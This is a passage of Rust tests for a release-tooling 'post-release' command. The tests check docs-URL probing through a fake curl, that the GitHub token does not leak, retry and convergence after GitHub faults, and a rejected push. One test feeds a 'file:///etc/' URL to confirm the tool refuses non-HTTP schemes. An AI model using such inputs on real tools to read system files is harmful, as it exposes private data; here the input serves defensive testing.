            format!("GET {site}/docs/0.5.0 (from --docs-url): 200 (redirected to {page})")
        )
    );
    assert_eq!(
        docs_deployed_with(&f, &gh, &format!("{site}/missing/{{version}}/"), &env),
        (
            "fail".to_string(),
            format!("GET {site}/missing/0.5.0/ (from --docs-url) answered 404")
        )
    );
    assert_eq!(
        docs_deployed_with(&f, &gh, &format!("{site}/moved/{{version}}/"), &env),
        (
            "fail".to_string(),
            format!(
                "GET {site}/moved/0.5.0/ (from --docs-url) answered 404 (redirected to {site}/gone/)"
            )
        )
    );
    // No answer at all: curl's own one-line error.
    let closed = format!("http://127.0.0.1:{}/", testkit::http::closed_port());
    let (status, reason) = docs_deployed_with(&f, &gh, &closed, &env);
    assert_eq!(status, "fail", "{reason}");
    assert!(
        reason.starts_with(&format!("GET {closed} (from --docs-url): curl: (7) ")),
        "{reason}"
    );
}

/// A fake `curl` first on PATH that records its argv (one argument a line), then `env:` and its
/// environment, in `curl.log`, and answers with `script`.
fn fake_curl(script: &str) -> (tempfile::TempDir, [(&'static str, OsString); 1]) {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("curl.log");
    let curl = dir.path().join("curl");
    std::fs::write(
        &curl,
        format!(
            "#!/bin/sh\nfor arg in \"$@\"; do printf '%s\\n' \"$arg\" >> '{}'; done\n\
             {{ echo env:; env; }} >> '{}'\n{script}\n",
            log.display(),
            log.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&curl, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = testkit::docker::prepend_path(dir.path());
    (dir, [("PATH", path)])
}

#[test]
fn https_docs_are_asked_with_curl_and_never_with_the_token() {
    let (f, gh) = released();
    let url = "https://docs.example.org/codemate-hub/0.5.0/";
    let (curl, env) = fake_curl("printf 200");
    assert_eq!(
        docs_deployed_with(
            &f,
            &gh,
            "https://docs.example.org/codemate-hub/{version}/",
            &env
        ),
        (
            "pass".to_string(),
            format!("GET {url} (from --docs-url): 200")
        )
    );
    let log = std::fs::read_to_string(curl.path().join("curl.log")).unwrap();
    let (argv, environment) = log.split_once("env:\n").expect("curl ran");
    assert!(argv.lines().any(|arg| arg == url), "{argv}");
    assert!(!argv.contains(TOKEN), "the token is in curl's argv: {argv}");
    assert!(
        !environment.contains(TOKEN),
        "the token is in curl's environment"
    );

    // A TLS failure fails with curl's words, not a panic.
    let said = "curl: (60) SSL certificate problem: self-signed certificate";
    let (failing, env) = fake_curl(&format!("echo '{said}' >&2\nexit 60"));
    assert_eq!(
        docs_deployed_with(&f, &gh, url, &env),
        (
            "fail".to_string(),
            format!("GET {url} (from --docs-url): {said}")
        )
    );
    // Nor does curl get a URL of another scheme (mkdocs.yml's site_url is the project's text).
    assert_eq!(
        docs_deployed_with(&f, &gh, "file:///etc/{version}/", &env).1,
        "GET file:///etc/0.5.0/ (from --docs-url): not an http(s) URL"
    );
    let log = std::fs::read_to_string(failing.path().join("curl.log")).unwrap();
    assert!(!log.contains("file://"), "{log}");
}

/// A PATH of symlinks to `tools` only (each as found on this PATH): a machine without the rest.
fn path_with_only(tools: &[&str]) -> (tempfile::TempDir, [(&'static str, OsString); 1]) {
    let dir = tempfile::tempdir().unwrap();
    let path = std::env::var_os("PATH").unwrap_or_default();
    for tool in tools {
        let found = std::env::split_paths(&path)
            .map(|d| d.join(tool))
            .find(|p| p.is_file())
            .unwrap_or_else(|| panic!("no {tool} on PATH"));
        std::os::unix::fs::symlink(found, dir.path().join(tool)).unwrap();
    }
    let path = dir.path().as_os_str().to_owned();
    (dir, [("PATH", path)])
}

#[test]
fn without_curl_https_docs_are_blocked_with_the_hint_and_http_still_works() {
    let (f, gh) = released();
    let (_bin, env) = path_with_only(&["git"]);

    let url = "https://docs.example.org/0.5.0/";
    assert_eq!(
        docs_deployed_with(&f, &gh, url, &env),
        (
            "blocked".to_string(),
            format!(
                "GET {url} (from --docs-url): curl is not on PATH, and the xtask's own HTTP \
                 client speaks plain http only; install curl"
            )
        )
    );

    let up = format!(
        "http://127.0.0.1:{}/0.5.0/",
        testkit::http::serve_status(200)
    );
    assert_eq!(
        docs_deployed_with(&f, &gh, &up, &env),
        (
            "pass".to_string(),
            format!("GET {up} (from --docs-url): 200")
        )
    );
    // The xtask's own client follows no redirect: it cannot tell, and says why.
    let moved = format!(
        "http://127.0.0.1:{}/0.5.0",
        testkit::http::serve_status(301)
    );
    assert_eq!(
        docs_deployed_with(&f, &gh, &moved, &env),
        (
            "blocked".to_string(),
            format!(
                "GET {moved} (from --docs-url) answered 301, a redirect the xtask's own HTTP \
                 client does not follow (curl is not on PATH); install curl"
            )
        )
    );
}

#[test]
fn a_bad_post_release_setting_is_refused_with_its_line_and_changes_nothing() {
    let (f, gh) = released();
    gh.add_milestone("v0.5.0", true);
    commit_and_push(
        &f,
        "release-checks.toml",
        "[post-release]\ndocs-url = \"https://docs.example.org/{version}/\"\n",
    );
    let before = (f.snapshot(), mutations(&gh), gh.milestones());
    let run = xtask(
        &f,
        &gh,
        "post-release",
        &["0.5.0", "--asset", FLOWS, "--execute"],
    );
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr
            .contains("error: release-checks.toml:2: unknown key `docs-url`"),
        "{run:?}"
    );
    assert!(
        run.stderr
            .contains("hint: `[post-release]` takes only docs_url, milestone"),
        "{run:?}"
    );
    assert_eq!((f.snapshot(), mutations(&gh), gh.milestones()), before);
}

/// The requests one `post-release --execute --next-milestone 0.6.0` makes before it opens the
/// next milestone, on a fixture like the one of the test: where a fault lands on that POST.
fn requests_before_opening_the_milestone() -> usize {
    let (f, gh) = released();
    gh.add_milestone("v0.5.0", true);
    let base = gh.requests().len();
    let (run, _) = post_release(&f, &gh, &["--next-milestone", "0.6.0", "--execute"]);
    assert_eq!(run.code, 0, "{run:?}");
    let after: Vec<String> = gh.requests()[base..].iter().map(|r| r.line()).collect();
    after
        .iter()
        .position(|line| line.starts_with("POST") && line.ends_with("/milestones"))
        .unwrap_or_else(|| panic!("no POST of a milestone: {after:?}"))
}

#[test]
fn github_failing_after_the_milestone_close_exits_3_and_a_rerun_converges() {
    let offset = requests_before_opening_the_milestone();
    let (f, gh) = released();
    gh.add_milestone("v0.5.0", true);
    let base = gh.requests().len();
    // The token may close milestones but not create them: not retried, so the run stops there.
    gh.fail_request(
        base + offset,
        Fault::Status {
            status: 403,
            headers: Vec::new(),
            body: serde_json::json!({ "message": "Resource not accessible by integration" }),
        },
    );
    let args = ["--next-milestone", "0.6.0", "--execute"];
    let (run, doc) = post_release(&f, &gh, &args);
    assert_eq!(run.code, 3, "{run:?}");
    assert_eq!(doc["exit_code"], 3);
    let error = &doc["error"];
    assert!(
        error["cause"].as_str().unwrap().contains("issues: write")
            && error["fix"]
                .as_str()
                .unwrap()
                .contains("re-run the same command"),
        "{error}"
    );
    let milestones = gh.milestones();
    assert_eq!(milestones.len(), 1, "not opened: {milestones:?}");
    assert_eq!(milestones[0].state, "closed", "the close before it is done");
    let record = step(&doc, "record");
    assert_eq!(record["status"], "skipped", "{record}");
    assert!(
        record["summary"]
            .as_str()
            .unwrap()
            .contains("not recorded: `next-milestone` failed"),
        "{record}"
    );
    assert_eq!(
        records_on_origin(&f),
        0,
        "a half-done cleanup is not recorded"
    );

    // The re-run does what is left, once: no second close, one milestone, one record.
    let before = mutations(&gh).len();
    let (again, doc) = post_release(&f, &gh, &args);
    assert_eq!(again.code, 0, "{again:?}");
    let done: Vec<String> = mutations(&gh)[before..].to_vec();
    assert_eq!(
        done.len(),
        1,
        "only the POST of the new milestone: {done:?}"
    );
    assert!(done[0].ends_with("/milestones"), "{done:?}");
    let titles: Vec<(String, String)> = gh
        .milestones()
        .into_iter()
        .map(|m| (m.title, m.state))
        .collect();
    assert_eq!(
        titles,
        [
            ("v0.5.0".to_string(), "closed".to_string()),
            ("v0.6.0".to_string(), "open".to_string())
        ]
    );
    assert_eq!(checks(&doc)["next-milestone"].0, "pass");
    assert_eq!(records_on_origin(&f), 1);

    let after = (f.snapshot(), mutations(&gh));
    let (third, _) = post_release(&f, &gh, &args);
    assert_eq!(third.code, 0, "{third:?}");
    assert_eq!(
        (f.snapshot(), mutations(&gh)),
        after,
        "converged: {third:?}"
    );
}

#[test]
fn a_push_of_the_record_that_fails_exits_3_and_a_rerun_pushes_the_same_commit() {
    use std::os::unix::fs::PermissionsExt;
    let (f, gh) = released();
    gh.add_milestone("v0.5.0", true);
    let hook = f.repo.origin().join("hooks/pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\nif [ -f reject-once ]; then rm reject-once; echo 'remote: rejected' >&2; exit 1; fi\n",
    )
    .unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(f.repo.origin().join("reject-once"), "").unwrap();

    let (run, doc) = post_release(&f, &gh, &["--execute"]);
    assert_eq!(run.code, 3, "{run:?}");
    assert_eq!(step(&doc, "record")["status"], "failed", "{run:?}");
    assert_eq!(gh.milestones()[0].state, "closed");
    let committed = f.repo.head();
    let subject = f.repo.git(&["log", "-1", "--format=%s"]);
    assert_eq!(subject, "Record post-release of v0.5.0");
    assert_eq!(records_on_origin(&f), 0);

    let before = mutations(&gh);
    let (again, _) = post_release(&f, &gh, &["--execute"]);
    assert_eq!(again.code, 0, "{again:?}");
    assert_eq!(
        f.repo.head(),
        committed,
        "the same commit, not a second one"
    );
    assert_eq!(records_on_origin(&f), 1);
    assert_eq!(
        f.repo.git_origin(&["rev-parse", "main"]),
        committed,
        "{again:?}"
    );
    assert_eq!(mutations(&gh), before, "the milestone is not closed twice");
}
